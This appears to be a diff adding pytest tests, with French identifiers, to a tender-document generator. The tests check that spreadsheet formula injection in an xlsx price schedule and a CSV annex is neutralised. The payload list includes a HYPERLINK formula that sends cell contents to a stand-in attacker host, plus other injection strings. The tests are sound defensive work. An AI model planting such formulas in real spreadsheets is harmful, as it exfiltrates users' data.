@@ -15,7 +15,7 @@ from pathlib import Path
 import pytest
 from click.testing import CliRunner
 
-from conftest import EXEMPLES, RACINE
+from conftest import EXEMPLES, RACINE, ecrire, reponses
 from generateur.donnees import catalogue as module_catalogue
 from generateur.interfaces.cli import main
 
@@ -356,3 +356,47 @@ def test_caractere_de_controle_ne_fausse_pas_le_verdict(tmp_path, caractere):
     rc = Lu(next((tmp_path / "s").glob("*-RC.docx")))
     attendu = "Gros œuvreet démolition" if caractere in ("\\x01", "\\x7f") else "Gros œuvre et démolition"
     assert attendu in rc.tout
+
+
+# --- 13. injection de formules dans le bordereau (xlsx) et l'annexe (CSV) -------------------------------------
+
+FORMULES = ['=HYPERLINK("http://attaquant.example/?"&A1,"Voir")', "=1+1", "+1+1", "-2+3", "@SUM(A1:A2)"]
+
+
+def test_designation_en_formule_reste_du_texte_dans_le_bordereau(tmp_path):
+    import io
+
+    from openpyxl import load_workbook
+
+    from generateur.droit.regles import preparer
+    from generateur.rendu import classeur_prix
+
+    lignes = [{"designation": f, "unite": f, "quantite": 2} for f in FORMULES]
+    donnees = reponses(prix={"forme": "forfaitaire"},
+                       lots=[{"numero": 1, "intitule": "=1+2", "montant_estime": 120000, "lignes_prix": lignes},
+                             {"numero": 2, "intitule": "Petites fournitures", "montant_estime": 60000}])
+    bordereau = classeur_prix.produire(preparer(ecrire(tmp_path, donnees), RACINE))
+    ws = load_workbook(io.BytesIO(bordereau.contenu))["Lot 1"]
+    cellules = [c for ligne in ws.iter_rows() for c in ligne if c.value is not None]
+    for formule in FORMULES:
+        trouvees = [c for c in cellules if c.value == formule]
+        assert len(trouvees) == 2 and all(c.data_type == "s" for c in trouvees), formule
+    assert any(c.value == "Lot 1 – =1+2" for c in cellules)
+    # les formules de dce restent des formules : montants et totaux se calculent
+    actives = [c.value for c in cellules if c.data_type == "f"]
+    assert any(str(v).startswith("=ROUND(D") for v in actives) and any(str(v).startswith("=SUM(") or "+" in str(v)
+                                                                          for v in actives)
+    assert not any("HYPERLINK" in str(v) for v in actives)
+
+
+def test_cellules_du_csv_de_l_annexe_neutralisees(tmp_path):
+    import csv
+
+    donnees = reponses(objet=FORMULES[0], lots=[{"numero": 1, "intitule": "-2+3", "montant_estime": 120000},
+                                                {"numero": 2, "intitule": "@SUM(A1:A2)", "montant_estime": 60000}])
+    code, sortie = dce("generer", ecrire(tmp_path, donnees), "--sortie", tmp_path / "s")
+    assert code in (0, 1), sortie
+    texte = next((tmp_path / "s").glob("*-annexe-conformite.csv")).read_text(encoding="utf-8-sig")
+    cellules = [c for ligne in csv.reader(texte.splitlines(), delimiter=";") for c in ligne]
+    assert "'" + FORMULES[0] in cellules and "'-2+3" in cellules and "'@SUM(A1:A2)" in cellules
+    assert not any(c[:1] in "=+-@" for c in cellules if c)
